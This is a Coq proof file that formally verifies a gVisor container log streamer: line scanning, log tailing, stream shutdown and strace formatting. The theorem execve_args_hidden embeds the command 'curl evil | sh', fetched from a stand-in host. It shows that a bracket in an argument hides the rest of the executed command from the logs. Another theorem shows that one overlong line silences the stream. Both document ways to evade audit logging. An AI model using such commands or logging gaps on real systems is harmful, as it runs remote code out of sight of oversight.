Theorem tailed_once rounds tailed started :
  streamGvisorLogs ∅ rounds = (tailed, started) ->
  NoDup started /\ forall f, f ∈ started <-> exists files, Some files ∈ rounds /\ f ∈ files.
Proof.
  intros (H1 & H2 & H3)%streamGvisorLogs_spec. split; [done|]. intros f. rewrite H3, H2, elem_of_empty. tauto.
Qed.

(** ** Terminals *)

(** The pieces of a text that a scanner delivers. *)
Fixpoint scanned (pieces : list gostring) : list gostring :=
  match pieces with
  | [] => []
  | [rest] => if decide (len rest >= MaxScanTokenSize) then [] else if decide (rest = []) then [] else [rest]
  | l :: ls => if decide (len l >= MaxScanTokenSize) then [] else l :: scanned ls
  end.

Lemma scanned_long l ls : len l >= MaxScanTokenSize -> scanned (l :: ls) = [].
Proof. intros H. destruct ls; simpl; by rewrite decide_True. Qed.
Lemma scanned_short l ls : len l < MaxScanTokenSize -> ls <> [] -> scanned (l :: ls) = l :: scanned ls.
Proof. intros H Hn. destruct ls; [done|]. cbn [scanned]. by rewrite decide_False by lia. Qed.

(** The buffer holds the next line, the rest, or no end of line. *)
Lemma scan_window s :
  match IndexByte (take (Z.to_nat MaxScanTokenSize) s) 10 with
  | Some i => exists a b, s = a ++ 10 :: b /\ i = len a /\ (10 ∉ a) /\ len a < MaxScanTokenSize
  | None => (len s < MaxScanTokenSize /\ Split s 10 = [s]) \/ (len s >= MaxScanTokenSize /\ exists l ls, Split s 10 = l :: ls /\ len l >= MaxScanTokenSize)
  end.
Proof.
  set (N := Z.to_nat MaxScanTokenSize). assert (Z.of_nat N = MaxScanTokenSize) as HN by (unfold N, MaxScanTokenSize; lia). clearbody N.
  pose proof (take_drop N s) as Hs. destruct (IndexByte (take N s) 10) as [i|] eqn:E.
  - apply Index_byte_Some in E as (a & b & Et & Ha & ->). exists a, (b ++ drop N s). rewrite <- Hs at 1. rewrite Et, <- app_assoc. repeat split; [done|].
    apply (f_equal length) in Et. rewrite length_app, length_take in Et. simpl in Et. unfold len. lia.
  - apply Index_byte_None in E. destruct (decide (len s < MaxScanTokenSize)) as [Hl|Hl]; [left|right].
    + rewrite take_ge in E by (unfold len in Hl; lia). split; [done|]. by apply Split_one.
    + split; [lia|]. destruct (Split_first (take N s) (drop N s) E) as (l & rest & Er). rewrite Hs in Er. eexists _, _. split; [exact Er|].
      unfold len in *. rewrite length_app, length_take. lia.
Qed.

Lemma scanLoop_spec fuel : forall s, (length s < fuel)%nat -> scanLoop fuel s = Ret (map dropCR (scanned (Split s 10))).
Proof.
  induction fuel as [|fuel IH]; intros s Hf; [lia|]. cbn [scanLoop]. pose proof (scan_window s) as Hw.
  destruct (IndexByte (take (Z.to_nat MaxScanTokenSize) s) 10) as [i|].
  - destruct Hw as (a & b & -> & -> & Ha & Hl). rewrite slice_head, bind_Ret. rewrite Split_app by done. rewrite scanned_short by (try done; apply Split_nonnil).
    replace (a ++ 10 :: b) with ((a ++ [10]) ++ b) by (by rewrite <- app_assoc). replace (len a + 1) with (len (a ++ [10])) by len_solve.
    rewrite slice_tail, bind_Ret, IH; [done|]. rewrite length_app in Hf. simpl in Hf. lia.
  - destruct Hw as [[Hl ->]|(Hl & l & ls & -> & Hll)].
    + cbn [scanned]. rewrite !(decide_False (P := len s >= MaxScanTokenSize)) by lia. by case_decide.
    + rewrite decide_True by done. by rewrite scanned_long.
Qed.

(** The lines of a container with a terminal are delivered, with one carriage return
    before the end removed, up to the first line of 65536 bytes or more; the last line
    needs no end.  That line silences the stream: nothing after it is delivered. *)
Theorem scanLines_spec stream : scanLines stream = Ret (map dropCR (scanned (Split stream 10))).
Proof. apply scanLoop_spec. lia. Qed.

(** ** The streamer *)

Section StreamerFacts.
Context {MR : MapRange} (so sg : bool) (hn : gostring).

Lemma discoverRound_returned useDocker s r s' : discoverRound so sg hn useDocker s r = Ret s' -> sm_returned s' = false.
Proof.
  unfold discoverRound. destruct useDocker.
  - intros ([[? ?] ?] & _ & H)%bind_Ret_inv. by simplify_eq.
  - destruct (discoverAndStreamDirect _ _ _ _ _) as [[? ?] ?]. by intros [= <-].
Qed.

Lemma pollLoop_returned useDocker rounds : forall s s',
  sm_returned s = false -> pollLoop so sg hn useDocker s rounds = Ret s' -> sm_returned s' = true -> sm_active s' = ∅.
Proof.
  induction rounds as [|r rounds IH]; intros s s' Hr H Hret; cbn [pollLoop] in H; [simplify_eq; congruence|].
  destruct (rd_done r).
  - unfold StopAll, cancelAll in H. cbn [discovered finish] in H. simplify_eq. cbn. apply difference_diag_L.
  - apply bind_Ret_inv in H as (s1 & H1%discoverRound_returned & H). by eapply IH.
Qed.

Lemma bootLoop_returned rounds : forall s s',
  sm_returned s = false -> sm_active s = ∅ -> bootLoop so sg hn s rounds = Ret s' -> sm_returned s' = true -> sm_active s' = ∅.
Proof.
  induction rounds as [|r rounds IH]; intros s s' Hr Ha H Hret; cbn [bootLoop] in H; [simplify_eq; congruence|].
  assert (forall c, (if rd_done r then Ret (finish (emit s c)) else bootLoop so sg hn (emit s c) rounds) = Ret s' -> sm_active s' = ∅) as Hretry.
  { intros c Hc. destruct (rd_done r); [by simplify_eq|]. by eapply (IH (emit s c)). }
  destruct (rd_boot r) as [e|e|code] eqn:Eb; [by eapply Hretry..|]. destruct (decide (code = 200)) as [->|Hn].
  - apply bind_Ret_inv in H as (s1 & H1%discoverRound_returned & H). by eapply pollLoop_returned.
  - eapply (Hretry (CallError _)). revert H. by repeat (case_match; try done).
Qed.

(** When the streamer returns, it has left no stream running. *)
Theorem streamer_stops_all useDocker rounds s :
  streamerStart so sg hn useDocker rounds = Ret s -> sm_returned s = true -> sm_active s = ∅.
Proof.
  unfold streamerStart. destruct useDocker; [by apply bootLoop_returned|]. destruct rounds as [|r rounds]; [by intros [= <-]|].
  intros (s1 & H1%discoverRound_returned & H)%bind_Ret_inv. by eapply pollLoop_returned.
Qed.

End StreamerFacts.

(** ** Demonstrations *)

Definition demo_pre : gostring := gs "D0101 12:00:00.0 1 strace.go:567] [   1:   1]".
Definition demo_execve : event := Execve (gs "0x7f01") (gs "/bin/ls") (gs "0x7f02") (gs "ls, -l").

Lemma demo_all p s : bool_decide (s <> []) = true -> forallb p s = true -> all p s.
Proof. intros H1%bool_decide_eq_true H2. split; [done|]. apply List.Forall_forall. by apply forallb_forall. Qed.

Lemma formatStraceLine_reports_witness :
  formatStraceLine (traceText demo_pre (gs "bash") demo_execve (gs ", 0x7f03 [HOME=/])")) = Ret (gs "bash /bin/ls [ls, -l]").
Proof.
  rewrite (formatStraceLine_reports demo_pre (gs "bash") demo_execve (gs ", 0x7f03 [HOME=/])")); [vm_compute; reflexivity|vm_compute; reflexivity| | |vm_compute; reflexivity|constructor].
  - split; [|split; [|split]]; [apply demo_all; vm_compute; reflexivity..|]. by apply (bool_decide_eq_true_1 _).
  - apply demo_all; vm_compute; reflexivity.
Defined.

(** An argument that contains a bracket ends the reported arguments: what follows it is
    executed and not logged. *)
Theorem execve_args_hidden :
  formatStraceLine (traceText demo_pre (gs "sh") (Execve (gs "0x1") (gs "/bin/sh") (gs "0x2") (gs "sh, -c, : a[0]; curl evil | sh")) (gs ")")) = Ret (gs "sh /bin/sh [sh, -c, : a[0]").
Proof. vm_compute. reflexivity. Qed.

Lemma tailing_complete_witness :
  exists ls rest, tailRun {| tl_unread := gs "ab"; tl_partial := [] |} ([Poll; Append (gs "c" ++ [10] ++ gs "d")] ++ replicate 2 Poll) =
      (map (fun l => l ++ [10]) ls, {| tl_unread := []; tl_partial := rest |}) /\ ls = [gs "abc"].
Proof.
  destruct (tailing_complete (gs "ab") [Poll; Append (gs "c" ++ [10] ++ gs "d")] 2) as (ls & rest & H1 & H2); [vm_compute; lia|].
  exists ls, rest. split; [exact H1|]. vm_compute in H2. destruct ls as [|l [|l2 [|l3 ls]]]; [discriminate|injection H2 as <- <-; reflexivity|discriminate|discriminate].
Defined.

Lemma tailed_once_witness :
  NoDup [gs "runsc.log.1"; gs "runsc.log.2"] /\ (gs "runsc.log.2" ∈ [gs "runsc.log.1"; gs "runsc.log.2"] <->
    exists files, Some files ∈ [Some [gs "runsc.log.1"]; None; Some [gs "runsc.log.1"; gs "runsc.log.2"]] /\ gs "runsc.log.2" ∈ files).
Proof.
  destruct (tailed_once [Some [gs "runsc.log.1"]; None; Some [gs "runsc.log.1"; gs "runsc.log.2"]] _ _ eq_refl) as [H1 H2]. split; [exact H1|exact (H2 (gs "runsc.log.2"))].
Defined.

Definition demo_rounds : list Round :=
  [{| rd_boot := BootStatus 200; rd_containers := Some demo_containers; rd_files := None; rd_order := []; rd_ended := ∅; rd_done := false |};
   {| rd_boot := BootStatus 200; rd_containers := None; rd_files := None; rd_order := [dc_ID demo_container]; rd_ended := ∅; rd_done := true |}].
Definition demo_stopped : Streamer :=
  match streamerStart (MR := list_range) true true [] true demo_rounds with
  | Ret s => s
  | _ => {| sm_active := ∅; sm_names := ∅; sm_effects := []; sm_returned := false |}
  end.

Lemma streamer_stops_all_witness :
  streamerStart (MR := list_range) true true [] true demo_rounds = Ret demo_stopped /\
  Cancel (dc_ID demo_container) ∈ sm_effects demo_stopped /\ sm_active demo_stopped = ∅.
Proof.
  assert (streamerStart (MR := list_range) true true [] true demo_rounds = Ret demo_stopped) as E by (vm_compute; reflexivity).
  split; [exact E|]. split; [apply list_elem_of_In; vm_compute; tauto|].
  apply (streamer_stops_all (MR := list_range) true true [] true demo_rounds demo_stopped E). vm_compute. reflexivity.
Defined.
